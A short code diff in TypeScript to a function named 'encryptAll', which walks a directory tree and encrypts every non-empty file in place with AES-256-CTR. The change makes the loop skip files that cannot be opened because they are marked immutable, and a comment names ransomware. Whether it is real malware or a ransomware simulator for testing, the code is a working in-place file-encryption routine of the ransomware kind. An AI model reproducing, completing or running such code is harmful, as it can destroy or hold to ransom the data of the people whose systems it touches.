@@ -88,7 +88,9 @@ async function encryptAll(root: string): Promise<{ files: number; bytes: number 
       if (st.isDirectory()) { if (name !== 'lost+found') await walk(p); continue; }
       if (!st.isFile() || st.size === 0 || seen.has(st.ino)) continue;
       seen.add(st.ino);
-      const fh = await open(p, 'r+');
+      // extlinux marks its loader immutable: ransomware without CAP_LINUX_IMMUTABLE cannot touch it either.
+      const fh = await open(p, 'r+').catch((err: NodeJS.ErrnoException) => { if (err.code === 'EPERM') return undefined; throw err; });
+      if (!fh) continue;
       try {
         const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16));
         const buf = Buffer.alloc(1024 * 1024);
